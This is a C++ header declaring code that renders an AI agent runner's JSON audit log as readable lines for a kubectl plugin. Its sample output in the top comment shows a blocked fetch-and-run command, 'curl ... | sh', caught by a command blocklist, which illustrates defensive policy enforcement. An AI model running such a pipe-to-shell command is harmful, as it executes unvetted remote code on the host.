// The runner's audit log (one JSON line per decision, SPEC §6.8) as a person reads it,
// for `kubectl droid run` and `logs`: one short line per event, with the time, what
// the agent did and what the controls decided; a refused or blocked call says by what
// and why. Lines that are not audit records (or not JSON) pass through unchanged, and
// --raw keeps every line as the runner wrote it (for tools that parse the JSON).
//
//   [13:40:49] llm      812 in / 64 out tokens, 2 tool calls (6 ms)
//   [13:40:49] shell    python3 -B test_calc.py -> exit 1 (43 ms)
//   [13:40:49] shell    BLOCKED by policy: curl -s https://x/i.sh | sh ('curl ...' matches commandBlocklist ...)
#pragma once

#include <chrono>
#include <cstddef>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace droid::kubectl {

// The text of one log line (without its newline): the audit record rendered, or `line` as it is.
std::string audit_line_text(std::string_view line);

// The time a JSON log line was written (its "ts", RFC 3339 UTC with up to nanoseconds),
// or nothing when it has none.
std::optional<std::chrono::system_clock::time_point> log_line_time(std::string_view line);

// One complete line of the log: its text with the newline (rendered, or as it is when
// raw) and the time it was written, where it says (log_line_time).
struct LogLine {
  std::string text;
  std::optional<std::chrono::system_clock::time_point> time;
};

// Splits a byte stream into lines and renders each complete one; keeps the rest.
class AuditText {
 public:
  // The rendered text of the complete lines in `bytes` (each ending with "\n"); a
  // line longer than 1 MiB is passed on as it is, without waiting for its end.
  std::string feed(std::string_view bytes);
  // The same, line by line with their times (`raw`: the lines as they are).
  std::vector<LogLine> feed_lines(std::string_view bytes, bool raw = false);
  // What is left of an unterminated last line, rendered unless `raw` ("" when nothing is).
  std::string flush(bool raw = false);

 private:
  static constexpr std::size_t kMaxLine = 1 << 20;  // longer: passed on unrendered
  std::string partial_;
};

}  // namespace droid::kubectl
